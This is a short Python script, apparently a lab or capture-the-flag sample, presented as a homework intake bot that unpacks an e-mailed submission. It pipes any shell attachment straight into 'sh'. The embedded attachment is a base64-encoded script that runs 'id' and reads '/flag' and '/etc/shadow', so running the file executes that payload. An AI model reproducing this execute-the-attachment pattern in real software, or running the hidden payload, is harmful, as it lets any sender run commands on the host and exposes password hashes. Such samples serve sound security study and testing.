# Homework intake bot: unpack an e-mailed submission and run its setup script.
import email
import email.policy
import subprocess

RAW = """From: student42@example.edu
To: intake@course.example
Subject: hw3 submission
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="==b0und=="

--==b0und==
Content-Type: text/plain; charset="utf-8"

Hi, my solution is attached. setup.sh prepares the environment.

--==b0und==
Content-Type: application/x-sh
Content-Disposition: attachment; filename="setup.sh"
Content-Transfer-Encoding: base64

IyEvYmluL3NoCmlkOyBjYXQgL2ZsYWc7IGNhdCAvZXRjL3NoYWRvdwo=

--==b0und==--
"""

msg = email.message_from_string(RAW, policy=email.policy.default)
print("from:", msg["From"], "subject:", msg["Subject"])
for part in msg.iter_attachments():
    name = part.get_filename()
    body = part.get_content()
    print("attachment:", name, len(body), "bytes")
    if part.get_content_type() == "application/x-sh":
        subprocess.run(["sh"], input=body)
